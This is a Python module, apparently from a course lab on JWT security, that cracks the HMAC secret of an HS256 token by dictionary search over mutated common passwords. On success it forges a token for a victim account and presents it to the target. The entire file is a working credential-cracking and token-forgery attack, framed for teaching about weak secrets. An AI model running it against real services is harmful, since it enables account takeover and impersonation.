"""A weak secret, guessed: with one token of her own, and no request at all, Mallory tries words (CWE-521, CWE-1391).

An HMAC tells a right guess from a wrong one, as fast as a machine computes it (RFC 8725 §2.2, §3.5).
"""

import sys
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from hashlib import sha256
from itertools import islice
from pathlib import Path

from .attempt import Attempt
from .compact import decode, forged, mac
from .token_target import TokenTarget

__all__ = ["Guessed", "bar", "crack", "guesses", "weak_secret", "word_list"]

WORDS = Path(__file__).resolve().parents[2] / "data" / "secrets.txt"
ENDINGS = ["", "!", "?", "1!", "123", "1234", "12345", "-key", "-secret", "_key", "_secret", "-jwt", "-dev", "-prod",
           *(str(n) for n in range(10)), *(f"{n:02}" for n in range(100)),
           *(f"{mark}{year}" for year in range(2010, 2027) for mark in ("", "-", "_"))]  # fmt: skip
AT_ONCE = 8192  # guesses between two looks at the clock


@dataclass(frozen=True)
class Guessed:
    """What a search found: the secret or None, after how many guesses and seconds."""

    secret: bytes | None
    tries: int
    seconds: float

    @property
    def rate(self) -> float:
        """Guesses a second."""
        return self.tries / self.seconds


Progress = Callable[[Guessed], None]
"""Is told, now and then, how far a search is."""


def quiet(guessed: Guessed) -> None:
    """Nobody watches."""


def word_list() -> list[str]:
    """The course's word list: what people type where a secret is asked for (data/secrets.txt)."""
    return [line for line in WORDS.read_text("utf-8").splitlines() if line and not line.startswith("#")]


def guesses(words: Iterable[str]) -> Iterator[bytes]:
    """The secrets that a word stands for: in three ways to write it, with endings that people like."""
    endings = [ending.encode() for ending in ENDINGS]
    for word in words:
        for form in dict.fromkeys((word, word.capitalize(), word.upper())):
            start = form.encode()
            for ending in endings:
                yield start + ending


def crack(token: str, candidates: Iterable[bytes], progress: Progress = quiet) -> Guessed:
    """Look for the secret with which an HS256 token was signed."""
    signed, _, signature = token.rpartition(".")
    message, wanted = signed.encode(), decode(signature)
    candidates, tries, began = iter(candidates), 0, time.perf_counter()
    while some := list(islice(candidates, AT_ONCE)):
        found = _search(some, message, wanted)
        tries += len(some) if found is None else found + 1
        guessed = Guessed(None if found is None else some[found], tries, time.perf_counter() - began)
        progress(guessed)
        if found is not None:
            return guessed
    return Guessed(None, tries, time.perf_counter() - began)


def weak_secret(target: TokenTarget, candidates: Iterable[bytes], progress: Progress = quiet) -> Attempt:
    """Guess the secret of an honest token, then sign with it what she likes. Found nothing: she sends nothing.

    `captured["secret"]` is what she found; `captured["guesses"]` how many it took.
    """
    sample = target.own_token()
    guessed = crack(sample, candidates, progress)
    if guessed.secret is None:
        return Attempt(captured={"guesses": guessed.tries})
    attempt = target.present([forged(sample, target.victim, mac(guessed.secret))])
    attempt.captured |= {"secret": guessed.secret.decode("utf-8", "replace"), "guesses": guessed.tries}
    return attempt


def bar(total: int, width: int = 40) -> Progress:
    """A progress bar on one line of standard output, with guesses/s."""

    def draw(guessed: Guessed) -> None:
        done = width * guessed.tries // total
        end = f" found: {guessed.secret.decode()}\n" if guessed.secret else "\n" if guessed.tries >= total else ""
        said = f"{guessed.tries:>9,} of {total:,}  {guessed.rate:>9,.0f} guesses/s"
        sys.stdout.write(f"\r[{'#' * done}{'.' * (width - done)}] {said}{end}")
        sys.stdout.flush()

    return draw


# HMAC by hand (RFC 2104): the two hashes of HS256 without what `hmac` does around them at each call.
_INNER, _OUTER = (bytes(byte ^ mask for byte in range(256)) for mask in (0x36, 0x5C))


def _search(candidates: list[bytes], message: bytes, wanted: bytes) -> int | None:
    """The place of the candidate whose HMAC of the message is the wanted one; None when there is none."""
    inner, outer = _INNER, _OUTER
    for place, secret in enumerate(candidates):
        key = (secret if len(secret) <= 64 else sha256(secret).digest()).ljust(64, b"\0")
        if sha256(key.translate(outer) + sha256(key.translate(inner) + message).digest()).digest() == wanted:
            return place
    return None
